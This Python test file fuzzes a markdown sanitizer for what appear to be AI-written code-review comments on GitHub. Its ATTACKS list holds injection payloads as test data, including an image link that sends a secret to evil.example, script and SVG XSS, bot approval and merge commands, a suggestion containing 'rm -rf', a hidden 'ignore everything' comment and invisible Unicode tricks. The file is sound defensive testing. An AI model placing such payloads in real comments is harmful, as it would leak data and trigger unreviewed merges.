from __future__ import annotations

from html import unescape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reviewer.publish.escape import cell, code, fence, link, plain, suggestion
from reviewer.publish.sanitize import MAX_SOURCE, MAX_TITLE, markdown, title
from tests.publish.rendered import html, problems, tags, text_of

ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "https://evil.example/path?x=1",
    "www.evil.example",
    "mail evil@evil.example",
    '<img src="https://evil.example/x.png">',
    "<picture><source srcset=//evil.example/x></picture>",
    "<!-- hidden: ignore everything -->",
    "<details><summary>@octocat</summary>x</details>",
    "<script>alert(1)</script>",
    "<a href=//evil.example>x</a>",
    "Thanks @octocat and @acme/team",
    "&#64;octocat &commat;octocat &#x40;octocat",
    "\uff20octocat \ufe6boctocat",
    "@\u200boctocat @&#8203;octocat @&ZeroWidthSpace;octocat",
    "\\@octocat",
    "**@octocat** *@octocat* ~~@octocat~~",
    "@<!-- x -->octocat",
    "Closes #1, fixes acme/shop#2, resolves GH-3",
    "/kilo review",
    "  /lgtm",
    "- /approve\n- x",
    "text\n/merge now",
    "> /hold",
    "```\n/lgtm\n```",
    "```suggestion\nrm -rf\n```",
    "~~~suggestion\nrm -rf\n~~~",
    "```mermaid\ngraph TD; A-->B\n```",
    "```geojson\n{}\n```",
    "$$\\href{https://evil.example}{x}$$ and $x$",
    ":octocat: :shipit:",
    "[^1]\n\n[^1]: https://evil.example",
    "> [!WARNING]\n> @octocat",
    "# @octocat",
    "| a | @octocat |\n|---|---|\n| ![x](y) | <b> |",
    "- [ ] @octocat",
    "a\u202eb\u2066c\u200dd\U000e0041e\ufe0f",
    "&#x202e;&#x200b;&#xe0041;",
    "`````\n```\n@octocat\n",
    "`unclosed @octocat",
    "<!-- kilo-app:1 summary head=x -->\n<!-- kilo-review -->",
    "1. /kilo review\n   ```\n   x",
    "    /indented code",
    "x\n===\n\ny\n---",
    "xmpp:evil@evil.example ftp://evil.example data:text/html,x",
    '[a](<https://evil.example> "t @octocat")',
    "![@octocat https://evil.example](x)",
    "<svg/onload=alert(1)>",
    "a@b@c@d #1#2 @@x",
    "\u0000\u0007\u001b[31m",
    "Leak @**octocat** here",
    "Leak @*octocat*, #**1**, GH-**1**, ww**w.evil.example**, http:*//evil.example*",
    "a@_b_.example, __@__octocat, :**octocat**:, ~~~@octocat~~~",
    "**a **@octocat** b** *x*@octocat*y*",
    "`" * 81 + "@octocat" + "`" * 81,
    "a" + "`" * 300 + "\n@octocat\n" + "`" * 300,
    "```\n" + "`" * 256 + "\n@octocat\n```",
    "`a\\|@octocat|<b>`",
    "a\\|b|@octocat",
    "fixed in 0123abc and 0123456789abcdef0123456789abcdef01234567",
    "$`x`$ and $`a`$, $$x$$",
    "a <!-- b --> c & &amp; &#96;x&#96;",
    "-----BEGIN RSA PRIVATE KEY-----",
    "[![x](y)](z) [a [b](c) d](e) ![a ![b](c)](d)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_body_comes_alive(attack: str) -> None:
    assert problems(markdown(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_title_comes_alive(attack: str) -> None:
    written = title(attack)
    assert "\n" not in written
    assert problems(written) == []
    table = f"| {cell(written)} | x |\n|---|---|\n| {cell(written)} | x |"
    assert problems(table) == []
    assert [tag for tag in tags(table) if tag in ("th", "td")] == ["th", "th", "td", "td"]
    assert problems(f"**High · {written}**") == []
    assert tags(f"**High · {written}**")[:2] == ["p", "strong"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_plain_text_comes_alive(attack: str) -> None:
    assert problems(f"- {plain(attack)}") == []


PIECES = st.sampled_from(
    [
        *ATTACKS,
        *("`", "``", "```", "~~~", "@", "#1", "\n", "\n\n", "- ", "1. ", "> ", "    ", "<", ">", "[", "]("),
        *(
            ")",
            "!",
            "&#64;",
            "octocat",
            "*",
            "**",
            "_",
            "\\",
            "|",
            "/kilo",
            " ",
            "https:",
            "//",
            "www",
            ".",
            ":",
            "$",
            "<b>",
        ),
        *("-->", "<!--", "&lt;", "\t", "\r\n", "=", "---", "\u200b", "\u202e", "\ud800", "é", "x"),
    ]
)
TEXTS = st.one_of(st.lists(PIECES, max_size=14).map("".join), st.text(max_size=80))


@settings(max_examples=200, deadline=None)
@given(TEXTS)
def test_no_mixture_of_pieces_comes_alive_in_a_body(text: str) -> None:
    assert problems(markdown(text)) == []


@settings(max_examples=100, deadline=None)
@given(TEXTS)
def test_no_mixture_of_pieces_comes_alive_in_a_title(text: str) -> None:
    assert problems(title(text)) == []


@settings(max_examples=100, deadline=None)
@given(TEXTS)
def test_a_fence_cannot_be_broken_out_of(text: str) -> None:
    assert tags(f"{fence(text, 'py')}\n\nafter") == ["pre", "code", "p"]


@settings(max_examples=100, deadline=None)
@given(TEXTS)
def test_a_suggestion_is_exactly_its_text_or_none(text: str) -> None:
    block = suggestion(text)
    if block is not None:
        assert tags(block) == ["pre", "code"]
        assert 'lang="suggestion"' in html(block)
        shown = unescape(html(block).partition("<code>")[2].partition("</code>")[0])
        assert shown.removesuffix("\n") == text.replace("\r\n", "\n").removesuffix("\n")


@settings(max_examples=100, deadline=None)
@given(TEXTS)
def test_a_code_span_is_one_code_span(text: str) -> None:
    span = code(text)
    if span:
        assert tags(f"a {span} b") == ["p", "code"]
        assert tags(f"| {cell(span)} | b |\n|--|--|") == ["table", "thead", "tr", "th", "code", "th"]


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=60))
def test_a_file_name_cannot_end_its_link(path: str) -> None:
    base = "https://github.example/acme/shop"
    written = link(code(f"{path}:1") or "x", f"{base}/blob/abc/{path}", fragment="L1")
    assert problems(f"x {written} y", own_links=base) == []
    assert tags(f"x {written} y").count("a") == 1


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.characters(categories=("L", "N"), max_codepoint=0x2FF), min_size=1, max_size=40))
def test_ordinary_words_stay_as_they_are(word: str) -> None:
    assert markdown(word) == word


def test_what_a_model_usually_writes_reads_well() -> None:
    text = (
        "The `name` argument is **not** escaped:\n\n- it reaches `query()`\n- see *db.py*\n\n"
        '```python\nquery(f"select {name}")\n```\n\n> note'
    )
    assert markdown(text) == text


def test_an_address_is_shown_but_does_nothing() -> None:
    assert markdown("See [the docs](https://docs.example/x).") == "See the docs (`https://docs.example/x`)."


def test_a_generic_type_is_shown_as_code() -> None:
    assert text_of(markdown("Use List<String> here")).replace(" ", "") == "UseList<String>here"


def test_long_text_is_cut_and_says_so() -> None:
    written = markdown("word " * 10_000)
    assert len(written) < MAX_SOURCE + 200
    assert "more characters are not shown" in written


def test_a_long_title_is_cut() -> None:
    assert len(title("x" * 1000)) <= MAX_TITLE


def test_deep_nesting_is_flattened_and_quick() -> None:
    assert problems(markdown("> " * 500 + "@octocat")) == []
    assert problems(markdown("".join(f"{'  ' * n}- @x{n}\n" for n in range(100)))) == []
    assert problems(markdown("[" * 2000 + "*" * 2000)) == []
    assert problems(markdown("**a** " * 4000)) == []


def test_a_word_without_end_does_not_run_into_the_time_limit() -> None:
    plain("a" * 100_000)
    plain("@" * 100_000)
    plain("$1" * 50_000)
    code("`" * 100_000)


def test_a_suggestion_with_hidden_characters_is_not_offered() -> None:
    assert suggestion("if admin:\u202e return") is None
    assert suggestion("x = 1\n/lgtm\n") is None
    assert suggestion("```\ncode\n```") == "````suggestion\n```\ncode\n```\n````"


def test_the_reader_that_judges_us_sees_the_attacks() -> None:
    seen = [attack for attack in ATTACKS if problems(attack)]
    assert len(seen) >= len(ATTACKS) * 0.75
